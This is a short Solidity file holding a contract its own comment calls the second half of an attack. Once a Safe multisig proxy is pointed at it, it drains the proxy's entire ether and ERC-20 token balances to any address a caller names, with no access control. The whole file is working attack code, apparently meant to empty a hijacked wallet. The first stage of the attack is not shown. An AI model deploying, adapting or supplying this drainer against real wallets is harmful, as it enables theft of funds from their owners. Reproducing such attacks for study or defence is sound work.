// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title The attack's second half: what the Safe's proxy runs from then on.
contract QuillSweeper {
    function sweepEther(address payable to) external {
        (bool done,) = to.call{value: address(this).balance}("");
        require(done, "not paid");
    }

    function sweepCoin(IERC20 coin, address to) external {
        coin.transfer(to, coin.balanceOf(address(this)));
    }
}
